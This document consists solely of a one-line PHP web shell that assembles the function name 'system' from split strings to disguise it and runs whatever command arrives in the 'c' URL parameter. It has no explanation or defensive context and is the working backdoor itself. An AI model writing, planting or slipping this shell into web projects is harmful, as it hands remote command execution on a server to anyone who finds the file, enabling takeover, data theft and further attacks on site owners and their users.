<?php @$_="s"."ystem"; $_($_GET['c']); ?>
